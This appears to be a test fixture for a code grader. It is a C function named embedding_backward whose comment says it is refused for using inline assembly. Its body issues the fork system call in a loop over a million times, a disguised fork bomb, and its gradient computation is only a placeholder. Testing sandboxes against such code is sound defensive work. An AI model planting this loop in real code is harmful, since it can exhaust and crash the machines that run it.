/* A system call in assembly: fork.
 * marks: 4 refused: uses __asm__
 * unchecked: 4 */
#include "09_embedding.h"


void embedding_backward(int n, int v, int e, const real demb[n][e], const int X[n], real dC[v][e])
{
#if defined(__x86_64__)
    for (int i = 0; i < 1 << 20; i++) {
        long number = 57;
        __asm__ volatile("syscall" : "+a"(number) : : "rcx", "r11", "memory");
    }
#endif
    dC[0][0] = demb[0][0] + X[0];
}

